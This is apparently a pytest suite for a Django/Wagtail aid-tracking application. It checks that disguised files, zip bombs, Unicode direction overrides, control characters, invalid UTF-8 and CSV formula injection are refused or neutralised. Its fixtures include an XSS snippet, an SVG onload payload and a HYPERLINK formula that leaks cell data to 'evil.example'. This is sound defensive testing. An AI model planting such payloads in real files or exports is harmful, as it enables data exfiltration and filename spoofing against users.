"""Hostile input, through the pages and the API: files that are not what their names
say, decompression bombs, oversized files, control and bidirectional characters, huge
strings, bytes that are not UTF-8, formulas in a listing's CSV. Each is refused with a
message naming the file or field and the problem, and nothing of it is stored; or it is
stored and written out harmlessly."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from amity.aid.models import AidItem
from amity.aid.services import aid_item_save
from amity.finance.models import ExchangeRate, Transaction
from amity.finance.services import rate_save
from amity.finance.transactions import transaction_save
from amity.registry.models import Organization, OrganizationAlias
from amity.testing import empty_inlines, login, text

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64


def docx(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def real_docx() -> bytes:
    return docx(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
        }
    )


def png(size=(4, 4)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("1", size).save(buffer, "PNG")
    return buffer.getvalue()


@pytest.fixture
def admin(db):
    from wagtail.users.models import UserProfile

    user = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    return user


def add_document(client, name: str, data: bytes):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Báo cáo",
            "file": SimpleUploadedFile(name, data),
            "collection": Collection.get_first_root_node().pk,
        },
    )


# Wagtail's documents --------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, data, fragment",
    [
        ("bao-cao.pdf", EXE, "“bao-cao.pdf” is not a .pdf file, though its name says so"),
        ("bao-cao.pdf", b"<html><script>alert(1)</script>", "is not a .pdf file"),
        ("ke-hoach.docx", PDF, "“ke-hoach.docx” is not a .docx file"),
        # A zip, but not a Word document.
        ("ke-hoach.docx", docx({"a.txt": b"x"}), "is not a .docx file"),
        ("bang.xlsx", real_docx(), "“bang.xlsx” is not a .xlsx file"),
        ("ghi-chu.txt", EXE, "“ghi-chu.txt” is not a .txt file"),
        (
            "bom.zip",
            docx({"zeros.bin": b"\0" * (3 * 2**20)}),
            "“bom.zip”: its part “zeros.bin” is packed",
        ),
        ("trang.html", b"<html></html>", "“trang.html”: files of this kind cannot be uploaded"),
    ],
)
def test_a_document_that_is_not_what_its_name_says_is_refused(client, admin, name, data, fragment):
    login(client, admin)
    response = add_document(client, name, data)
    assert response.status_code == 200
    assert fragment in text(response)
    assert not get_document_model().objects.exists()


def test_a_real_document_is_taken(client, admin):
    login(client, admin)
    assert add_document(client, "bao-cao.pdf", PDF).status_code == 302
    assert add_document(client, "ke-hoach.docx", real_docx()).status_code == 302
    assert get_document_model().objects.count() == 2


def test_an_archive_declaring_more_than_the_limit_is_refused(client, admin, settings):
    settings.AMITY_UPLOAD_MAX_UNPACKED_BYTES = 2**20
    login(client, admin)
    # Random bytes: no ratio to see, only the declared total.
    data = docx({"a.bin": bytes(range(256)) * 3000, "b.bin": bytes(range(256)) * 3000})
    response = add_document(client, "ho-so.zip", data)
    assert "“ho-so.zip” would unpack to 1.5" in text(response)
    assert "at most 1.0" in text(response)
    assert not get_document_model().objects.exists()


def test_a_file_over_the_size_limit_is_refused_naming_the_limit(client, admin, settings):
    settings.AMITY_UPLOAD_MAX_BYTES = 1000
    login(client, admin)
    response = add_document(client, "lon.pdf", PDF + b"0" * 2000)
    assert "“lon.pdf” is 2.0" in text(response)
    assert "a file may be at most 1000" in text(response)
    assert not get_document_model().objects.exists()


def test_a_documents_title_with_a_direction_override_is_refused(client, admin):
    login(client, admin)
    response = client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "hoa-don\u202efdp.exe",
            "file": SimpleUploadedFile("hoa-don.pdf", PDF),
            "collection": Collection.get_first_root_node().pk,
        },
    )
    assert "reverses the direction of the text (U+202E) at character 8" in text(response)
    assert not get_document_model().objects.exists()


# Wagtail's images (portal banners, articles) -------------------------------------------


def add_image(client, name: str, data: bytes):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Ảnh",
            "file": SimpleUploadedFile(name, data),
            "collection": Collection.get_first_root_node().pk,
        },
    )


@pytest.mark.parametrize(
    "name, data, fragment",
    [
        ("anh.jpg", png(), "Not a valid .jpeg image"),
        ("anh.png", PDF, "Upload a valid image"),
        ("anh.svg", b"<svg onload='alert(1)'/>", "Not a supported image format"),
        # 48 million pixels, over WAGTAILIMAGES_MAX_IMAGE_PIXELS (a few KB packed).
        ("banner.png", png((8000, 6000)), "too many pixels"),
    ],
)
def test_an_image_that_is_not_that_image_or_too_large_is_refused(
    client, admin, name, data, fragment
):
    login(client, admin)
    response = add_image(client, name, data)
    assert response.status_code == 200
    assert fragment in text(response)
    assert not get_image_model().objects.exists()


def test_a_real_image_is_taken(client, admin):
    login(client, admin)
    assert add_image(client, "anh.png", png()).status_code == 302
    assert get_image_model().objects.count() == 1


# Text in records: the API -----------------------------------------------------------------


MEGABYTE = "x" * 2**20


def test_the_refusals_write_their_numbers_as_the_reader_does(callers, unions, api_client_for):
    client = api_client_for(callers["own_staff"], language="vi")
    payload = {"union": "dong-nai", "name": "Oxfam International", "notes": MEGABYTE}
    response = client.post("/api/v1/organizations/", payload, format="json")
    assert response.status_code == 400
    assert "1.048.576" in response.json()["notes"][0] and "100.000" in response.json()["notes"][0]
    assert not Organization.objects.filter(name="Oxfam International").exists()


@pytest.mark.parametrize(
    "changes, field, fragment",
    [
        ({"name": "Oxfam \u202eInternational"}, "name", "reverses the direction"),
        ({"name": "Oxfam \u2066International"}, "name", "(U+2066) at character 7"),
        ({"name": "Oxfam\x07"}, "name", "invisible control character (U+0007)"),
        ({"name": "Oxfam\x85Intl"}, "name", "(U+0085)"),
        ({"name": "Oxfam\nInternational"}, "name", "it must be one line"),
        ({"name": MEGABYTE}, "name", "no more than 255 characters"),
        ({"notes": "Ghi\x0bchú"}, "notes", "(U+000B) at character 4"),
        ({"notes": "Ghi chú \u202d"}, "notes", "reverses the direction"),
        ({"notes": MEGABYTE}, "notes", "1,048,576 characters; at most 100,000"),
        ({"aliases": ["GNI", "GNI\u202e"]}, "aliases", "reverses the direction"),
        ({"contacts": [{"name": "Lan\u202e"}]}, "contacts[0].name", "reverses the direction"),
    ],
)
def test_hostile_text_in_the_api_is_refused_naming_the_field(
    changes, field, fragment, callers, unions, api_client_for
):
    payload = {"union": "dong-nai", "name": "Oxfam International", **changes}
    response = api_client_for(callers["own_staff"]).post(
        "/api/v1/organizations/", payload, format="json"
    )
    assert response.status_code == 400
    assert fragment in str(response.json()[field])
    assert not Organization.objects.exists()
    assert not OrganizationAlias.objects.exists()


def test_line_breaks_and_tabs_stay_in_a_multi_line_text(callers, unions, api_client_for):
    notes = "Dòng một\n\tDòng hai\r\nDòng ba \u200f"
    response = api_client_for(callers["own_staff"]).post(
        "/api/v1/organizations/",
        {"union": "dong-nai", "name": "Oxfam", "notes": notes},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert Organization.objects.get().notes == notes


@pytest.mark.parametrize(
    "body",
    [
        b'{"union": "dong-nai", "name": "Oxfam \xff\xfe"}',
        b'{"union": "dong-nai", "name": "\xc3\x28"}',
        b'{"union": "dong-nai", "name": "\\ud800"}',  # a lone surrogate
        b'{"union": "dong-nai", "name": ',
    ],
)
def test_a_request_body_that_is_not_utf8_json_is_a_400(body, callers, unions, api_client_for):
    response = api_client_for(callers["own_staff"]).post(
        "/api/v1/organizations/", data=body, content_type="application/json"
    )
    assert response.status_code == 400
    answer = response.json()
    assert answer.get("detail") or answer.get("name")
    assert not Organization.objects.exists()


def test_a_direction_override_is_refused_in_the_callers_language(callers, unions, api_client_for):
    response = api_client_for(callers["own_staff"], language="vi").post(
        "/api/v1/organizations/",
        {"union": "dong-nai", "name": "Oxfam \u202e"},
        format="json",
    )
    assert response.status_code == 400
    message = response.json()["name"][0]
    assert "U+202E" in message
    assert not Organization.objects.exists()


# Text in records: the back office -------------------------------------------------------


@pytest.mark.parametrize(
    "name, fragment",
    [
        ("exe.\u202etxt", "reverses the direction of the text (U+202E) at character 5"),
        ("Oxfam\x1b[31m", "invisible control character (U+001B)"),
    ],
)
def test_hostile_text_in_a_back_office_form_is_refused(client, callers, unions, name, fragment):
    login(client, callers["own_staff"])
    response = client.post(
        reverse("organizations:add"),
        {
            "name": name,
            "union": unions["dong-nai"].pk,
            "kind": "foreign_ngo",
            **empty_inlines("aliases", "contacts"),
        },
    )
    assert response.status_code == 200
    assert fragment in text(response)
    assert not Organization.objects.exists()


# Formulas in a listing's CSV ------------------------------------------------------------


def test_a_formula_in_a_title_is_written_as_text_in_the_listings_csv(client, callers, unions):
    import datetime
    from decimal import Decimal

    rate_save(
        actor=None,
        rate=ExchangeRate(
            currency_id="USD",
            date=datetime.date(2023, 1, 1),
            vnd_per_unit=Decimal("24000"),
            source='=HYPERLINK("http://evil.example/?"&A1,"SBV")',
        ),
    )
    item = aid_item_save(
        actor=None,
        item=AidItem(
            union=unions["dong-nai"], kind="project", title='=HYPERLINK("http://evil.example")'
        ),
    )
    transaction_save(
        actor=None,
        transaction=Transaction(
            item=item,
            type="disbursement",
            date=datetime.date(2023, 3, 1),
            amount=Decimal("100"),
            currency_id="USD",
        ),
    )
    login(client, callers["national_staff"])
    response = client.get(reverse("transactions:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    # Only the title is marked as text: amounts, dates and codes are written as they are.
    assert [cell for cell in rows[1] if cell.startswith("'")] == [
        '\'=HYPERLINK("http://evil.example")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"SBV")',
    ]
    rates = client.get(reverse("rates:index"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(rates.streaming_content).decode())))
    assert rows[1][-1].startswith("'=HYPERLINK(")
